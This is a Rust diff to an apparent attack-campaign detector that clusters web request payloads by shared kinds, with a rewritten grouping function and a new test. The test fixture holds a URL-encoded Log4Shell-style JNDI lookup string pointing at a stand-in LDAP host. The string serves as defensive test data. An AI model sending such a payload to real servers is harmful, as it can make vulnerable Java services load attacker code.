@@ -15,6 +15,7 @@ use crate::detect::{Finding, Subject};
 use crate::dossier::Event;
 use crate::record::time::DAY;
 use crate::triage::payload;
+use hashbrown::HashMap;
 use std::collections::BTreeSet;
 
 /// Payloads, doors aside, from which somebody throws them.
@@ -75,17 +76,14 @@ fn overlapping(open: Vec<(Throws, Group)>) -> Vec<Vec<(Throws, Group)>> {
 
 /// A volley as one group, if so many do not come together by accident and throw the same.
 fn one_hand(volley: Vec<(Throws, Group)>, all: u64, log: i64) -> Vec<Group> {
-    let sorts: Vec<&BTreeSet<&str>> = volley.iter().map(|(throws, _)| &throws.sorts).collect();
-    let is_alike: Vec<bool> = (0..volley.len())
-        .map(|at| {
-            let others = (0..sorts.len()).filter(|other| *other != at).filter_map(|o| sorts.get(o));
-            let others: BTreeSet<&str> = others.flat_map(|sorts| sorts.iter().copied()).collect();
-            sorts.get(at).is_some_and(|mine| mine.intersection(&others).count() >= ALIKE)
-        })
-        .collect();
-    let mut parts = is_alike.into_iter();
-    let (alike, apart): (Vec<_>, Vec<_>) =
-        volley.into_iter().partition(|_| parts.next().unwrap_or(false));
+    let mut thrown: HashMap<&str, usize> = HashMap::new();
+    for sort in volley.iter().flat_map(|(throws, _)| &throws.sorts) {
+        *thrown.entry(sort).or_default() += 1;
+    }
+    let is_shared = |sort: &&&str| thrown.get(**sort).is_some_and(|hands| *hands > 1);
+    let (alike, apart): (Vec<_>, Vec<_>) = volley
+        .into_iter()
+        .partition(|(throws, _)| throws.sorts.iter().filter(is_shared).count() >= ALIKE);
     let mut groups: Vec<Group> = apart.into_iter().map(|(_, group)| group).collect();
     let count = alike.len();
     let from = alike.iter().map(|(throws, _)| throws.from).min().unwrap_or(0);
@@ -174,6 +172,22 @@ mod tests {
     fn several_who_throw_payloads_in_the_same_hours_are_one_and_in_different_weeks_are_not() {
         assert_eq!(campaigns(&[200, 200, 201]), [3]);
         assert_eq!(campaigns(&[100, 240, 400]), [1, 1, 1]);
+    }
+
+    #[test]
+    fn whoever_throws_nothing_that_the_others_throw_is_apart() {
+        let other = |i: i64| {
+            let time = MONDAY + 200 * 3600 + i * 900 + 7;
+            let request = Request::at(time, "/v1/orders/70001?q=$%7Bjndi:ldap://a.example/x%7D");
+            Request { status: 400, ..request.from("203.9.113.7", "App/9") }
+        };
+        let each = (1..).zip([200, 200, 201]).flat_map(|(at, hour)| thrower(at, hour));
+        let all: Vec<Request> = each.chain((0..6).map(other)).collect();
+        let found = linked(&play(&[readers(21), all].concat()));
+        let injections = found.iter().filter(|campaign| campaign.kind == "injection");
+        let mut actors: Vec<usize> = injections.map(|campaign| campaign.actors.len()).collect();
+        actors.sort_unstable();
+        assert_eq!(actors, [1, 3]);
     }
 
     #[test]
